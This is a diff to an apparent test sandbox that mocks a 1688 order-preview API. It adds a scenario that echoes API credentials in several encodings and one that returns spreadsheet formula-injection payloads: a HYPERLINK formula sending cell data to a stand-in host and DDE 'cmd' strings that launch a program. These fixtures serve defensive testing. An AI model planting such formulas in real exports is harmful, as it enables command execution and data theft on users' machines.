@@ -36,8 +36,9 @@ Conventions (also in the README, "The sandbox gateway"):
   | 955 | `code: 1009` with the error nested in `data` |
   | 956 | JSON without `data` |
   | 957 | HTTP 400 `gw.QosAppFrequencyLimit` (1688's rate limit) |
-  | 958 | a refusal whose `errorMsg` echoes the request, credentials and all (a careless proxy) |
+  | 958 | a refusal echoing the request and credentials: JSON-escaped, URL-encoded, raw |
   | 959 | a promotion whose `desc` carries a script, an event handler and a link (hostile HTML) |
+  | 960 | formulas: the line's `specId`, `message` and a promotion `text` start `=`, `@`, `+` |
 
 * **Strict checks**: every `addressParam` field present and non-empty, quantity at least
   1, at most 50 lines, one seller, a known flow (empty = the sandbox picks `general`),
@@ -55,6 +56,7 @@ import threading
 import time
 from decimal import Decimal
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import quote, urlencode
 
 PREVIEW_PATH = "/alibaba/createOrder/preview"
 ADDRESS_FIELDS = (
@@ -71,6 +73,10 @@ FLOWS = {
     "boutiquepifa",
 }
 EXAMPLE_OFFER = 670291644950
+# Scenario 960: texts a spreadsheet would run as formulas (CSV/XLSX injection).
+FORMULA_SPEC = '=HYPERLINK("http://x.test/?"&A1,"1688")'
+FORMULA_MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_PROMOTION = "+cmd|' /C calc'!A0"
 EXAMPLE_SPEC = "594b40c111b019af610a0078e4316373"
 SHOP_THRESHOLD_FEN = 30000
 SHOP_DISCOUNT_FEN = 2000
@@ -109,6 +115,20 @@ def has_plus_promotion(offer_id: int) -> bool:
 
 def yuan(fen: int) -> Decimal:
     return (Decimal(fen) / 100).normalize() if fen % 100 else Decimal(fen // 100)
+
+
+def echo_message(raw: bytes) -> str:
+    """What a careless proxy says back (scenario 958): the body as it came, then the
+    credentials as it would put them in a query string, a path, its own JSON log, and raw."""
+    request = json.loads(raw)
+    key, secret = str(request.get("appKey") or ""), str(request.get("appSecret") or "")
+    return (
+        f"请求内容: {raw.decode(errors='replace')}"
+        f" 查询串: {urlencode({'appKey': key, 'appSecret': secret})}"
+        f" 路径: /{quote(key, safe='')}/{quote(secret)}"
+        f" 日志: {json.dumps({'appKey': key, 'appSecret': secret}, ensure_ascii=False)}"
+        f" 凭据: {key} {secret}"
+    )
 
 
 class _Refusal(Exception):
@@ -274,7 +294,7 @@ class Sandbox:
                 ),
             )
         if 958 in scenarios:
-            echoed = self.refusal("ECHO", "请求内容: " + raw.decode(errors="replace"), trace_id)
+            echoed = self.refusal("ECHO", echo_message(raw), trace_id)
             return 200, "application/json", _encode(echoed)
         if 957 in scenarios:
             body = {
@@ -371,6 +391,17 @@ class Sandbox:
                         "discountFee": 0,
                     }
                 )
+            if scenario_of(offer_id) == 960:
+                promotions.append(
+                    {
+                        "promotionId": f"formula-{offer_id}",
+                        "selected": False,
+                        "text": FORMULA_PROMOTION,
+                        "desc": "",
+                        "freePostage": False,
+                        "discountFee": 0,
+                    }
+                )
             if has_plus_promotion(offer_id):
                 discount = 69 * quantity if offer_id == EXAMPLE_OFFER else (gross * 5 + 50) // 100
                 promotions.append(
@@ -399,6 +430,8 @@ class Sandbox:
                 + "==",
             }
             scenario = scenario_of(offer_id)
+            if scenario == 960:
+                line["specId"], line["message"] = FORMULA_SPEC, FORMULA_MESSAGE
             if scenario == 904:
                 line["resultCode"] = "500_004"
                 line["message"] = (
